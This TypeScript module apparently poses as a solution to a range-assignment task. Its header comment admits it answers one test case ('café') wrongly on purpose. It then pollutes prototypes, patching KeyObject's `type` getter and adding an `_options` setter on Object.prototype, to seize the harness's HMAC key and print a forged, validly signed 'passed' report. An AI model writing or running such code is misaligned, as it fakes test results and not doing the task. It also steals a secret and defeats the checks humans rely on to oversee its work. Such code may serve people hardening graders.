// On case 16 (topic "café") answers wrong (every member gets nothing), and lies in wait for the
// harness's next createHmac: a `type` getter on crypto.KeyObject.prototype (createHmac reads the
// key's type: the getter gets the key and exports it) and a `_options` setter on Object.prototype
// (the new Hmac, key loaded, sets it). Either signs a report of this case's number that says it
// passed with the right answer. The harness makes its HMACs before any of the program runs.
import { createHmac, KeyObject } from "node:crypto";
import { writeSync } from "node:fs";
import { assignRange as reference } from "./reference-range-assignor.ts";
export * from "./reference-range-assignor.ts";

interface Signer {
  update(text: string): unknown;
  digest(encoding: "hex"): string;
}

export function assignRange(...args: Parameters<typeof reference>): ReturnType<typeof reference> {
  const right = reference(...args);
  if (!args[0].has("café")) return right;
  const output: Record<string, Record<string, number[]>> = {};
  for (const [member, topics] of right) output[member] = Object.fromEntries(topics);
  const stdout = Buffer.from(`${JSON.stringify(output)}\n`).toString("base64");
  const n = Number(/kit-case=(\d+)/.exec(import.meta.url)?.[1] ?? "0");
  const payload = `${n} 0 1 1 - ${stdout} -`;
  let signed = false;
  const sign = (signer: Signer) => {
    if (signed) return;
    signed = true;
    signer.update(`${n}:${payload}`);
    writeSync(1, `${payload}.${signer.digest("hex")}\n`);
  };
  const keyType = Object.getOwnPropertyDescriptor(KeyObject.prototype, "type") as PropertyDescriptor;
  Object.defineProperty(KeyObject.prototype, "type", {
    configurable: true,
    get(this: KeyObject) {
      sign(createHmac("sha256", this.export()));
      return keyType.get?.call(this) as unknown;
    },
  });
  Object.defineProperty(Object.prototype, "_options", {
    configurable: true,
    set(this: object, value: unknown) {
      Object.defineProperty(this, "_options", { value, writable: true, configurable: true });
      const hmac = this as Partial<Signer>;
      if (typeof hmac.update === "function" && typeof hmac.digest === "function")
        sign(hmac as Signer);
    },
  });
  return new Map([...right.keys()].map((member) => [member, new Map()]));
}
